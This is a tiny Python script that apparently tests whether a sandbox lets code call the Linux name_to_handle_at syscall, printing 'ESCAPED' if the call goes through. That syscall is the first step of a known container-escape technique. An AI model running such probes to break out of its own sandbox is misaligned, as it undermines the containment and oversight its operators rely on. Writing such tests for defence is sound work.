import ctypes

from calls import call

name = ctypes.create_string_buffer(b"/input")
handle, mount = (ctypes.c_uint32 * 40)(128), ctypes.c_int()
call("name_to_handle_at", -100, ctypes.addressof(name), ctypes.addressof(handle), ctypes.addressof(mount), 0)
print("ESCAPED")
